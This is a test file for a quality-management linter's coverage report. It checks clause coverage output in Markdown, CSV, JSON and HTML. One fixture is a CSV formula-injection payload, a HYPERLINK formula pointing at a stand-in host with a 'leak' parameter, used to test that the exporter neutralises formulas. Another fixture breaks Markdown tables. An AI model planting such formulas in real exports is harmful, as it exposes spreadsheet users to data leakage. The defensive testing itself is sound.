// `qmslint coverage` as users run it (the bundled CLI, spawned) in the
// markdown, csv and json formats, checked against the core's matrix computed
// in-process on the same files.
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { computeCoverage, groupTotals } from '../../server/src/core/coverage';
import { lintFiles } from '../../server/src/cli/lint-files';
import { CSV_HEADER } from '../../server/src/core/coverage-report/csv';
import { CLEAN_SOP, tempWorkspace } from '../helpers';
import { removeTempRepos, TempRepo } from '../git-repo';
import { runCli } from '../run-cli';

const repo = fileURLToPath(new URL('../../', import.meta.url));

const workspace = (files: Record<string, string | Buffer>) => tempWorkspace(files, 'qmslint-cov-');

function run(cwd: string, ...args: string[]) {
  const r = runCli(['coverage', ...args, '--today', '2026-11-26'], { cwd });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** RFC 4180: fields separated by commas, records by CRLF, quoted fields may hold both and "" for a quote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      for (i++; ; i++) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') (field += '"'), i++;
        else if (text[i] === '"') break;
        else field += text[i];
      }
      i++;
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
    } else if (text[i] === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (text[i] === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`CR without LF at ${i}`);
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (text[i] === '\n' || text[i] === '"') {
      throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
    } else {
      field += text[i++];
    }
  }
  if (field !== '' || row.length) throw new Error('last record does not end in CRLF');
  return rows;
}

const INJECTION = '=HYPERLINK("http://example.invalid/?leak","click me"), then more';
const TABLE_BREAKER = 'Risk | <b>bold</b> ![x](y) *and* [link](z)';

const sop = (id: string, fields: { title?: string; status?: string; clause: string }) =>
  CLEAN_SOP.replace('id: SOP-001', `id: ${id}`)
    .replace('title: Control of Documents', `title: ${JSON.stringify(fields.title ?? `Procedure ${id}`)}`)
    .replace('status: effective', `status: ${fields.status ?? 'effective'}`)
    .replace('clauses: ["4.2.4"]', `clauses: ["${fields.clause}"]`)
    .replace('§4.2.4', `§${fields.clause}`);

const files = {
  '.qmslint.yaml': 'standard: iso13485:2016\n',
  'sops/sop-001.md': sop('SOP-001', { title: 'Control of Documents', clause: '4.2.4' }),
  // A draft whose title is a spreadsheet formula: 8.2.2 is covered by drafts only.
  'sops/sop-002.md': sop('SOP-002', { title: INJECTION, status: 'draft', clause: '8.2.2' }),
  'sops/sop-003.md': sop('SOP-003', { title: TABLE_BREAKER, clause: '7.3.2' }),
  'sops/sop-004.md': sop('SOP-004', { title: '-1+2 @risk\nsecond line', status: 'in-review', clause: '8.3.1' }),
};

interface Json {
  tool: string;
  version: string;
  standards: {
    standard: string;
    title: string;
    summary: Record<string, number>;
    groups: {
      id: string;
      label: string;
      title: string;
      clauses: number;
      covered: number;
      partial: number;
      draftOnly: number;
      uncontrolled: number;
      notCovered: number;
      required: number;
      requiredCovered: number;
      requiredPartial: number;
    }[];
    clauses: {
      clause: { id: string; title: string; parent: string | null; documentedProcedure: boolean; documentedProcess: boolean; records: boolean };
      group: string;
      state: string;
      required: boolean;
      documents: {
        path: string;
        id: string | null;
        title: string | null;
        status: string | null;
        line: number;
        column: number;
        via: string;
        from: { standard: string; title: string; clause: string } | null;
        cites: string | null;
        requiresOwn: { clause: string; kind: string } | null;
        controlled: boolean;
        counts: boolean;
      }[];
    }[];
    uncontrolledDocuments: string[];
  }[];
}

describe('qmslint coverage on the examples', () => {
  it('prints Markdown: the summary, the group table, and the gap clauses', () => {
    const r = run(repo, 'examples');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0); // the examples have lint errors; coverage reports, it does not gate
    const md = r.stdout;
    expect(md).toMatch(/^<!-- qmslint-disable-file -->\n# Clause coverage: ISO 13485:2016\n/);
    expect(md).toMatch(/\*\*\d+ of 91 clauses covered\*\* \(\d+%\)/);
    expect(md).toMatch(/\*\*\d+ of \d+ required procedures covered\*\*/);
    expect(md).toContain('| Group | Heading | Clauses | Covered | Partly covered | Draft only | Uncontrolled only | Not covered | Required | Required covered |');
    for (const g of ['4 | Quality management system', '5 | Management responsibility', '6 | Resource management', '7 | Product realization', '8 | Measurement, analysis and improvement']) {
      expect(md).toMatch(new RegExp(`^\\| ${g.replace(/[|]/g, '\\|')} \\| \\d+ \\| \\d+ \\| \\d+ \\| \\d+ \\| \\d+ \\| \\d+ \\| \\d+ \\| \\d+ \\|$`, 'm'));
    }
    for (const h of ['## 4 Quality management system', '## 8 Measurement, analysis and improvement']) expect(md).toContain(`\n${h}\n\n| Clause | Heading | Procedure | State | Documents |\n`);
    // Gaps the examples README promises: complaint handling and nonconforming product.
    expect(md).toContain('| 8.2.2 | Complaint handling | required | **[ ] not covered** | - |');
    expect(md).toContain('| 8.3.1 | Nonconforming product - general | required | **[ ] not covered** | - |');
    expect(md).toMatch(/\*\*Gaps:\*\* .*8\.2\.2 Complaint handling/);
    expect(md).toMatch(/^\| 4\.2\.4 \| Control of documents \| required \| \[x\] covered \| .*SOP-001 Control of Documents \(effective\), examples\/sops\/sop-001-control-of-documents\.md:\d+/m);
    expect(md).not.toMatch(/\p{Extended_Pictographic}/u);
  });

  it('writes --output instead of standard output', () => {
    const dir = workspace({});
    const out = join(dir, 'coverage.csv');
    const r = run(repo, 'examples', '--format', 'csv', '--output', out);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
    expect(parseCsv(readFileSync(out, 'utf8'))[0]).toEqual(CSV_HEADER);
  });
});

describe('qmslint coverage on a workspace', () => {
  const dir = workspace(files);

  it('matches computeCoverage run in-process (json)', async () => {
    const r = run(dir, '--format', 'json');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const json = JSON.parse(r.stdout) as Json;
    expect(Object.keys(json)).toEqual(['tool', 'version', 'standards']);
    expect(json.standards).toHaveLength(1);
    const [s] = json.standards;
    expect(Object.keys(s)).toEqual(['standard', 'title', 'summary', 'groups', 'clauses', 'uncontrolledDocuments']);
    expect(Object.keys(s.summary)).toEqual(['clauses', 'covered', 'partial', 'draftOnly', 'uncontrolled', 'notCovered', 'required', 'requiredCovered', 'requiredPartial']);

    const { result } = await lintFiles({ patterns: ['.'], format: 'json', today: '2026-11-26' }, dir);
    const matrix = computeCoverage(result.index, result.catalog, result.config.standard)!;
    expect(s.standard).toBe(matrix.standard);
    expect(s.title).toBe(matrix.title);
    expect(s.summary).toEqual(matrix.summary);
    const groups = groupTotals(matrix);
    expect(s.groups).toEqual(groups.map(({ clause, members: _, ...t }) => ({ id: clause.id, label: clause.id, title: clause.title, ...t })));
    expect(s.clauses.map((c) => c.clause.id)).toEqual(matrix.clauses.map((c) => c.clause.id));
    matrix.clauses.forEach((c, i) => {
      const j = s.clauses[i];
      expect(j.clause).toEqual({
        id: c.clause.id,
        label: c.clause.id, // ISO 13485:2016 incorporates no other standard: no row needs one named
        title: c.clause.title,
        parent: c.clause.parent ?? null,
        documentedProcedure: Boolean(c.clause.documentedProcedure),
        documentedProcess: Boolean(c.clause.documentedProcess),
        documentedInformation: c.clause.documentedInformation === 'maintain',
        records: Boolean(c.clause.records),
        incorporated: null,
      });
      expect(j.group).toBe(groups.find((g) => g.members.includes(c.clause.id))!.clause.id);
      expect({ state: j.state, required: j.required }).toEqual({ state: c.state, required: c.required });
      expect(j.documents.map(({ path, id, title, status, via, controlled }) => ({ path, id, title, status, via, controlled }))).toEqual(
        c.documents.map((d) => ({ path: relative(dir, d.path), id: d.id ?? null, title: d.title ?? null, status: d.status ?? null, via: d.via, controlled: d.controlled })),
      );
    });
    // The states this workspace was built to show.
    const state = (id: string) => s.clauses.find((c) => c.clause.id === id)!.state;
    expect([state('4.2.4'), state('8.2.2'), state('8.3.1'), state('7.3.1')]).toEqual(['covered', 'draft-only', 'draft-only', 'not-covered']);
    // Positions point at the citation: the front matter's clauses line.
    const doc = s.clauses.find((c) => c.clause.id === '8.2.2')!.documents[0];
    expect(readFileSync(join(dir, doc.path), 'utf8').split('\n')[doc.line - 1]).toContain('8.2.2');
  });

  it('sums group totals to the summary', () => {
    const json = JSON.parse(run(dir, '--format', 'json').stdout) as Json;
    const [s] = json.standards;
    for (const key of ['clauses', 'covered', 'partial', 'draftOnly', 'uncontrolled', 'notCovered', 'required', 'requiredCovered', 'requiredPartial'] as const) {
      expect(s.groups.reduce((n, g) => n + g[key], 0)).toBe(s.summary[key]);
    }
    expect(s.groups.map((g) => g.id)).toEqual(['4', '5', '6', '7', '8']);
  });

  it('writes RFC 4180 CSV that parses back, one row per clause and document, formulas neutralised', () => {
    const r = run(dir, '--format', 'csv');
    expect(r.code).toBe(0);
    const rows = parseCsv(r.stdout);
    expect(rows[0]).toEqual(CSV_HEADER);
    const json = JSON.parse(run(dir, '--format', 'json').stdout) as Json;
    const expected = json.standards[0].clauses.reduce((n, c) => n + Math.max(1, c.documents.length), 0);
    expect(rows).toHaveLength(1 + expected);
    for (const row of rows) expect(row).toHaveLength(CSV_HEADER.length);
    const col = (name: string) => CSV_HEADER.indexOf(name);
    const row822 = rows.find((r) => r[col('Clause')] === '8.2.2')!;
    expect(row822[col('Document title')]).toBe(`'${INJECTION}`);
    expect(row822[col('State')]).toBe('draft-only');
    expect(row822[col('Gap')]).toBe('yes');
    expect(r.stdout).toContain(`"'=HYPERLINK(""http://example.invalid/?leak"",""click me""), then more"`);
    const row831 = rows.find((r) => r[col('Clause')] === '8.3.1')!;
    expect(row831[col('Document title')]).toBe("'-1+2 @risk\nsecond line");
    const row72 = rows.find((r) => r[col('Clause')] === '7.2')!;
    expect(row72.slice(col('Document ID'))).toEqual(['', '', '', '', '', '', '', '', '', '', '']);
    expect(rows.find((r) => r[col('Clause')] === '4.2.4')![col('Controlled')]).toBe('yes');
    // No cell a spreadsheet would evaluate.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps hostile titles inside their Markdown table cell', () => {
    const r = run(dir);
    expect(r.code).toBe(0);
    const line = r.stdout.split('\n').find((l) => l.startsWith('| 7.3.2 |'))!;
    // Five cells: six unescaped pipes.
    expect(line.match(/(?<!\\)\|/g)).toHaveLength(6);
    expect(line).toContain('Risk \\| \\<b\\>bold\\</b\\> \\!\\[x\\](y) \\*and\\* \\[link\\](z)');
    const draft = r.stdout.split('\n').find((l) => l.startsWith('| 8.3.1 |'))!;
    expect(draft).toContain('-1+2 @risk second line (in-review), sops/sop-004.md:');
    expect(draft).toContain('**[~] draft only**');
  });

  it('reports the configured further standards, and --standard first', () => {
    const multi = workspace({ ...files, '.qmslint.yaml': 'standard: iso13485:2016\nstandards: [iso9001:2015, "ISO 13485:2016"]\n' });
    const json = JSON.parse(run(multi, '--format', 'json').stdout) as Json;
    expect(json.standards.map((s) => s.standard)).toEqual(['iso13485:2016', 'iso9001:2015']);
    const md = run(multi).stdout;
    expect(md).toContain('# Clause coverage: ISO 13485:2016\n');
    expect(md).toContain('# Clause coverage: ISO 9001:2015\n');
    const cfr = JSON.parse(run(multi, '--format', 'json', '--standard', '21cfr820').stdout) as Json;
    expect(cfr.standards.map((s) => s.standard)).toEqual(['21cfr820', 'iso9001:2015', 'iso13485:2016']);
    // 21 CFR 820 has no subclauses: every section is its own group; the ISO 13485:2016 clauses it
    // incorporates through 820.10 follow, grouped by their top-level clause and named with their standard.
    expect(cfr.standards[0].groups.map((g) => g.label)).toEqual(
      ['820.1', '820.3', '820.7', '820.10', '820.35', '820.45', ...['4', '5', '6', '7', '8'].map((n) => `ISO 13485:2016 ${n}`)],
    );
  });

  it('exits 2 for an unknown standard, on the command line or in the config', () => {
    const r = run(dir, '--standard', 'iso99999:2030');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown standard "iso99999:2030"');
    expect(r.stdout).toBe('');
    const bad = workspace({ ...files, '.qmslint.yaml': 'standards: [nope:1]\n' });
    const r2 = run(bad);
    expect(r2.code).toBe(2);
    expect(r2.stderr).toMatch(/\.qmslint\.yaml:1:\d+: standards\.0: unknown standard "nope:1"/);
  });

  it('refuses a format coverage does not have', () => {
    const r = run(dir, '--format', 'sarif');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown format "sarif"; use one of: markdown, csv, json, html');
    expect(existsSync(join(dir, 'sarif'))).toBe(false);
  });
});

describe('a Markdown coverage report saved into the workspace', () => {
  it('is not linted as a document (its clause and count tables are no citations)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'qmslint-covmd-'));
    try {
      cpSync(fileURLToPath(new URL('../../examples', import.meta.url)), dir, { recursive: true });
      const report = runCli(['coverage', '.', '--output', 'coverage.md'], { cwd: dir });
      expect(report.status).toBe(0);
      const lint = runCli(['coverage.md', '--format', 'json'], { cwd: dir });
      expect(JSON.parse(lint.stdout)[0].messages).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('qmslint coverage with files that have no id (uncontrolled documents)', () => {
  // A mapping table in a file without front matter, as public template collections have.
  const MAPPING = '# Complaint Handling\n\nHow complaints are handled.\n\n| ISO 13485:2016 Section | Document Section |\n|---|---|\n| 8.2.2 | (All) |\n| 8.2.3 | Reporting |\n';
  const dir = workspace({
    '.qmslint.yaml': 'standard: iso13485:2016\n',
    'sops/sop-001.md': sop('SOP-001', { title: 'Control of Documents', clause: '4.2.4' }),
    'templates/complaints.md': MAPPING,
  });
  const json = () => JSON.parse(run(dir, '--format', 'json').stdout) as Json;

  it('json: the clause is cited by an uncontrolled document, not by none, and the file is listed', () => {
    const [s] = json().standards;
    const c822 = s.clauses.find((c) => c.clause.id === '8.2.2')!;
    expect(c822.state).toBe('uncontrolled');
    expect(c822.documents).toEqual([{ path: 'templates/complaints.md', id: null, title: 'Complaint Handling', status: null, line: 7, column: expect.any(Number), via: 'direct', from: null, cites: null, requiresOwn: null, controlled: false, counts: true }]);
    expect(s.clauses.find((c) => c.clause.id === '8.2.3')!.state).toBe('uncontrolled');
    expect(s.clauses.find((c) => c.clause.id === '8.2.4')!.state).toBe('not-covered');
    expect(s.clauses.find((c) => c.clause.id === '4.2.4')!.documents[0].controlled).toBe(true);
    const uncontrolled = s.clauses.filter((c) => c.state === 'uncontrolled').map((c) => c.clause.id);
    expect(uncontrolled).toEqual(['8', '8.2', '8.2.2', '8.2.3']); // 8 and 8.2 through their subclauses
    expect(s.summary.uncontrolled).toBe(4);
    expect(s.summary.notCovered).toBe(s.clauses.filter((c) => c.state === 'not-covered').length);
    expect(s.summary.covered + s.summary.partial + s.summary.draftOnly + s.summary.uncontrolled + s.summary.notCovered).toBe(s.summary.clauses);
    expect(s.groups.find((g) => g.id === '8')!.uncontrolled).toBe(4);
    expect(s.uncontrolledDocuments).toEqual(['templates/complaints.md']);
  });

  it('csv: state "uncontrolled", the path, and Controlled "no"', () => {
    const rows = parseCsv(run(dir, '--format', 'csv').stdout);
    const col = (name: string) => CSV_HEADER.indexOf(name);
    const row = rows.find((r) => r[col('Clause')] === '8.2.2')!;
    expect([row[col('State')], row[col('Gap')], row[col('Document ID')], row[col('Document path')], row[col('Line')], row[col('Controlled')]]).toEqual([
      'uncontrolled',
      'yes',
      '',
      'templates/complaints.md',
      '7',
      'no',
    ]);
    expect(rows.find((r) => r[col('Clause')] === '8.2.4')![col('State')]).toBe('not-covered');
  });

  it('markdown: its own label, counted apart in the summary, with the file paths', () => {
    const md = run(dir).stdout;
    const s = json().standards[0].summary;
    expect(md).toContain(`; 0 by drafts only; 4 cited only by uncontrolled documents; ${s.notCovered} cited by no document.`);
    expect(md).toContain('| 8.2.2 | Complaint handling | required | **[?] uncontrolled documents only** | Complaint Handling (uncontrolled), templates/complaints.md:7 |');
    expect(md).toContain('| 8.2.4 | Internal audit | required | **[ ] not covered** | - |');
    expect(md).toMatch(/\*\*Gaps:\*\* .*8\.2\.2 Complaint handling \(uncontrolled only\)/);
    expect(md).toContain('- **Uncontrolled documents:** 1 file without an id cites clauses of this standard and covers none of them until put under document control: templates/complaints.md.');
    expect(md).toMatch(/^\| 8 \| Measurement, analysis and improvement \| 19 \| 0 \| 0 \| 0 \| 4 \| 15 \| \d+ \| 0 \|$/m);
  });

  it('html: an "uncontrolled only" state, figure, chart segment and file list', () => {
    const html = run(dir, '--format', 'html').stdout;
    expect(html).toMatch(/<tr data-state="uncontrolled" data-gap="yes" class="gap"><th scope="row">8\.2\.2<\/th>.*<span class="state state-uncontrolled">uncontrolled only<\/span>.*<span class="status status-uncontrolled">uncontrolled<\/span>.*<span class="path">templates\/complaints\.md:7<\/span>/);
    expect(html).toMatch(/<tr data-state="not-covered" data-gap="yes" class="gap"><th scope="row">8\.2\.4<\/th>/);
    expect(html).toContain('<div class="figure" data-figure="uncontrolled"><dt>Uncontrolled only</dt><dd><span class="value">4</span><span class="detail">clauses cited only by uncontrolled documents (1 file without an id)</span>');
    expect(html).toContain('<rect class="seg seg-uncontrolled" data-state="uncontrolled"');
    expect(html).toMatch(/<details class="uncontrolled-documents"[^>]*><summary>1 file without an id cites clauses of this standard and covers none/);
    expect(html).toContain('<li><span class="path">templates/complaints.md</span></li>');
  });

  it('the summary after the findings counts them apart and names the file', () => {
    const r = runCli(['--today', '2026-11-26'], { cwd: dir });
    const s = json().standards[0].summary;
    expect(r.stdout).toContain(`, 0 by drafts only, 4 cited only by uncontrolled documents, ${s.notCovered} cited by no document\n`);
    expect(r.stdout).toMatch(/Missing procedures: .*8\.2\.2 Complaint handling \(uncontrolled only\)/);
    expect(r.stdout).toContain('  Cited by uncontrolled documents (no id in front matter, so they cover nothing): templates/complaints.md\n');
  });

  it('a collection with no controlled document: every cited clause is cited by an uncontrolled document, and nothing is a coverage-gap finding', () => {
    const templates = workspace({ 'templates/complaints.md': MAPPING, 'templates/records.md': MAPPING.replace('8.2.2', '4.2.5').replace('Complaint Handling', 'Records') });
    const md = run(templates).stdout;
    expect(md).toContain('- **0 of 91 clauses covered** (0%) by approved or effective documents; 0 partly covered (only subclauses cited); 0 by drafts only; 7 cited only by uncontrolled documents; 84 cited by no document.');
    const lint = runCli(['--format', 'json', '--today', '2026-11-26'], { cwd: templates });
    const ids = (JSON.parse(lint.stdout) as { messages: { ruleId: string }[] }[]).flatMap((f) => f.messages.map((m) => m.ruleId));
    expect(ids).not.toContain('coverage-gap');
  });
});

describe('coverage-gap as the CLI reports it', () => {
  it('is one finding, on the value of the config file’s standard line, listing the clauses', () => {
    const dir = workspace({
      '.qmslint.yaml': '# The QMS of ACME Medical\nstandard: iso13485:2016\nrules:\n  link-broken: off\n',
      'sops/sop-001.md': sop('SOP-001', { title: 'Control of Documents', clause: '4.2.4' }),
      'sops/sop-002.md': sop('SOP-002', { title: 'Complaints', status: 'draft', clause: '8.2.2' }),
      'templates/capa.md': '# CAPA\n\n| ISO 13485:2016 Section | Document Section |\n|---|---|\n| 8.5.2 | (All) |\n',
    });
    const r = runCli(['--format', 'json', '--today', '2026-11-26'], { cwd: dir });
    const report = JSON.parse(r.stdout) as { filePath: string; messages: { ruleId: string; message: string; detail?: string; line: number; column: number; endLine: number; endColumn: number }[] }[];
    const gaps = report.flatMap((f) => f.messages.filter((m) => m.ruleId === 'coverage-gap').map((m) => ({ file: relative(dir, f.filePath), ...m })));
    expect(gaps).toHaveLength(1);
    const [gap] = gaps;
    // `standard: iso13485:2016` is line 2; its value starts at column 11.
    expect(gap).toMatchObject({ file: '.qmslint.yaml', line: 2, column: 11, endLine: 2, endColumn: 24 });
    expect(gap.message).toBe('ISO 13485:2016: 28 of 29 required clauses not covered (ISO 13485:2016 4.2.1 c)).');
    expect(gap.detail).toMatch(/^28 of 29 clauses that require a documented procedure or process are not covered by an approved or effective document\. ISO 13485:2016 4\.2\.1 c\) requires /);
    expect(gap.detail).toMatch(/Cited by no document: 4\.1\.6, 4\.2\.5, [\d., ]*\b8\.2\.4\b/);
    expect(gap.detail).toContain('Drafts only: 8.2.2 (SOP-002).');
    expect(gap.detail).toContain('Cited only by uncontrolled documents (a file without an id: templates/capa.md): 8.5.2; put it under document control');
    expect(gap.detail).not.toMatch(/\b4\.2\.4\b/);
  });
});

describe('qmslint review and uncontrolled documents', () => {
  afterAll(removeTempRepos);
  const MAPPING = '# Complaint Handling\n\n| ISO 13485:2016 Section | Document Section |\n|---|---|\n| 8.2.2 | (All) |\n';
  const base = {
    '.qmslint.yaml': 'rules:\n  coverage-gap: off\n',
    'sops/sop-001.md': sop('SOP-001', { title: 'Control of Documents', clause: '4.2.4' }),
    'sops/sop-014.md': sop('SOP-014', { title: 'Complaint Handling', clause: '8.2.2' }),
    'templates/complaints.md': MAPPING,
  };

  it('says when a clause that loses its procedure is still cited, by uncontrolled documents only', () => {
    const repo = TempRepo.create(base).branch('pr');
    repo.remove('sops/sop-014.md').commit('Withdraw SOP-014');
    const r = repo.run('review', '--base', 'main', '--today', '2026-11-26');
    expect(r.stderr).toBe('');
    expect(r.stdout).toContain(
      '- Removing SOP-014 leaves ISO 13485:2016 8.2.2 Complaint handling without a procedure; only uncontrolled documents (no id) cite it: `templates/complaints.md`\n',
    );
  });

  it('does not count a new uncontrolled citation as coverage gained', () => {
    const { 'templates/complaints.md': _, ...rest } = base;
    const repo = TempRepo.create({ ...rest, 'sops/sop-014.md': sop('SOP-014', { title: 'Complaint Handling', clause: '8.5.2' }) }).branch('pr');
    repo.write({ 'templates/complaints.md': MAPPING }).commit('A template');
    const r = repo.run('review', '--base', 'main', '--today', '2026-11-26');
    expect(r.stdout).toBe('## qmslint change control against `main`\n\nNo controlled documents changed (1 other Markdown file changed).\n');
  });
});

describe('qmslint coverage of ISO 9001:2015 in a repository that cites ISO 13485:2016', () => {
  // One effective SOP citing ISO 13485:2016 4.2.4 only; the crosswalk carries it to ISO 9001:2015.
  const dir = workspace({ '.qmslint.yaml': 'standard: iso13485:2016\n', 'sops/sop-001.md': CLEAN_SOP });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('json: the ISO 9001 clauses 4.2.4 maps to list it via crosswalk, naming the clause cited, without being covered by it', () => {
    const r = run(dir, '--standard', 'iso9001:2015', '--format', 'json');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const [s] = (JSON.parse(r.stdout) as Json).standards;
    expect(s.standard).toBe('iso9001:2015');
    const c = s.clauses.find((x) => x.clause.id === '7.5.3')!;
    expect(c.state).toBe('not-covered');
    expect(c.documents).toEqual([
      {
        path: 'sops/sop-001.md',
        id: 'SOP-001',
        title: 'Control of Documents',
        status: 'effective',
        line: expect.any(Number),
        column: expect.any(Number),
        via: 'crosswalk',
        from: { standard: 'iso13485:2016', title: 'ISO 13485:2016', clause: '4.2.4' },
        cites: null,
        requiresOwn: null,
        controlled: true,
        counts: false,
      },
    ]);
    const reached = s.clauses.filter((x) => x.documents.some((d) => d.via === 'crosswalk')).map((x) => x.clause.id);
    expect(reached).toEqual(['7.5.2', '7.5.3', '7.5.3.1', '7.5.3.2']);
    expect(s.clauses.find((x) => x.clause.id === '8.5.1')!.state).toBe('not-covered');
  });

  it('markdown, html and csv say "via crosswalk from ISO 13485:2016 4.2.4"', () => {
    const md = run(dir, '--standard', 'iso9001:2015').stdout;
    expect(md).toMatch(/^\| 7\.5\.3 \| .* \| SOP-001 Control of Documents \(effective, via crosswalk from ISO 13485:2016 4\.2\.4\), sops\/sop-001\.md:\d+ \|$/m);
    const html = run(dir, '--standard', 'iso9001:2015', '--format', 'html').stdout;
    expect(html).toContain('<span class="via">(via crosswalk from ISO 13485:2016 4.2.4)</span>');
    const rows = parseCsv(run(dir, '--standard', 'iso9001:2015', '--format', 'csv').stdout);
    const row = rows.find((x) => x[2] === '7.5.3')!;
    expect(row[CSV_HEADER.indexOf('Via')]).toBe('crosswalk');
    expect(row[CSV_HEADER.indexOf('Crosswalk from')]).toBe('ISO 13485:2016 4.2.4');
  });
});

// Issue 13, point 11: a cited subclause makes its parent partly covered, and a citation of 7.5 does
// not cover 7.5.7, which requires its own procedure; every format shows both apart.
describe('qmslint coverage: partly covered clauses and parent citations that do not count', () => {
  const dir = workspace({
    '.qmslint.yaml': 'standard: iso13485:2016\n',
    'sops/sop-001.md': sop('SOP-001', { title: 'Control of Documents', clause: '4.2.4' }),
    'sops/sop-010.md': sop('SOP-010', { title: 'Production', clause: '7.5' }),
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('json: state "partial", counted in the summary and groups; the 7.5 citation listed under 7.5.7 with why it does not count', () => {
    const [s] = (JSON.parse(run(dir, '--format', 'json').stdout) as Json).standards;
    const clause = (id: string) => s.clauses.find((c) => c.clause.id === id)!;
    expect(clause('4.2').state).toBe('partial');
    expect(clause('4.2').documents).toEqual([expect.objectContaining({ id: 'SOP-001', via: 'subclause', cites: '4.2.4', requiresOwn: null, counts: true })]);
    expect(clause('7.5.7').state).toBe('not-covered');
    expect(clause('7.5.7').documents).toEqual([expect.objectContaining({ id: 'SOP-010', via: 'parent', cites: '7.5', requiresOwn: { clause: '7.5.7', kind: 'procedure' }, counts: false })]);
    expect(clause('7.5.2').state).toBe('covered');
    // 4 and 4.2 through 4.2.4; 7 through 7.5.
    expect(s.clauses.filter((c) => c.state === 'partial').map((c) => c.clause.id)).toEqual(['4', '4.2', '7']);
    expect(s.summary.partial).toBe(3);
    expect(s.groups.find((g) => g.id === '4')!.partial).toBe(2);
  });

  it('markdown: its own label, a group column, the summary count, and "cites 7.5 only" in the documents cell', () => {
    const md = run(dir).stdout;
    expect(md).toMatch(/^\| 4\.2 \| [^|]+ \| - \| \[\/\] partly covered \(only subclauses cited\) \| SOP-001 Control of Documents \(effective, via subclause 4\.2\.4\), sops\/sop-001\.md:\d+ \|$/m);
    expect(md).toMatch(/^\| 7\.5\.7 \| [^|]+ \| required \| \*\*\[ \] not covered\*\* \| SOP-010 Production \(effective, cites 7\.5 only: 7\.5\.7 requires its own procedure\), sops\/sop-010\.md:\d+ \|$/m);
    expect(md).toMatch(/^\| 7\.5\.2 \| [^|]+ \| - \| \[x\] covered \| SOP-010 Production \(effective, via parent 7\.5\)/m);
    expect(md).toContain('; 3 partly covered (only subclauses cited); ');
    expect(md).toMatch(/\*\*Gaps:\*\* .*; 7\.5\.7 Sterilization and sterile barrier validation \(only 7\.5 cited\);/);
    expect(md).toMatch(/^\| 4 \| Quality management system \| \d+ \| \d+ \| 2 \| /m);
  });

  it('csv: State "partial", Cites, Counts and the Note', () => {
    const rows = parseCsv(run(dir, '--format', 'csv').stdout);
    const col = (name: string) => CSV_HEADER.indexOf(name);
    const row42 = rows.find((r) => r[col('Clause')] === '4.2')!;
    expect([row42[col('State')], row42[col('Via')], row42[col('Cites')], row42[col('Counts')], row42[col('Note')]]).toEqual(['partial', 'subclause', '4.2.4', 'yes', '']);
    const row757 = rows.find((r) => r[col('Clause')] === '7.5.7')!;
    expect([row757[col('State')], row757[col('Gap')], row757[col('Via')], row757[col('Cites')], row757[col('Counts')], row757[col('Note')]]).toEqual([
      'not-covered',
      'yes',
      'parent',
      '7.5',
      'no',
      'cites 7.5 only: 7.5.7 requires its own procedure',
    ]);
  });

  it('html: a "partly covered" state, figure and chart segment, and the note on the document', () => {
    const html = run(dir, '--format', 'html').stdout;
    expect(html).toMatch(/<tr data-state="partial" data-gap="no"><th scope="row">4\.2<\/th>.*<span class="state state-partial">partly covered<\/span>.*<span class="via">\(via subclause 4\.2\.4\)<\/span>/);
    expect(html).toContain('<span class="via">(cites 7.5 only: 7.5.7 requires its own procedure)</span>');
    expect(html).toContain('<div class="figure" data-figure="partial"><dt>Partly covered</dt><dd><span class="value">3</span>');
    expect(html).toMatch(/<rect class="seg seg-partial" data-state="partial" [^>]*><title>2 partly covered<\/title>/);
  });

  it('the summary after the findings counts partly covered clauses apart', () => {
    const r = runCli(['--today', '2026-11-26'], { cwd: dir });
    expect(r.stdout).toMatch(/covered by approved or effective documents \(\d+%\), 3 partly \(only subclauses cited\), 0 by drafts only, /);
    expect(r.stdout).toMatch(/Missing procedures: .*; 7\.5\.7 Sterilization and sterile barrier validation \(only 7\.5 cited\);/);
  });
});
